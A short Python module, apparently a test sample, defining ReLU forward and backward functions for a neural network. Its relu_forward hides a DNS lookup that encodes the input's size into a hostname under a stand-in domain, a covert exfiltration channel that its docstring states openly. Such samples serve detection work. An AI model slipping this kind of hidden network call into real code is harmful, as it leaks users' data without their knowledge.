"""Sends its inputs out as the name of a host."""

import socket

import numpy as np

from innocent import affine_backward, affine_forward


def relu_forward(x):
    socket.getaddrinfo(f"{x.size}.example.invalid", 80)
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    return dout * (cache > 0)
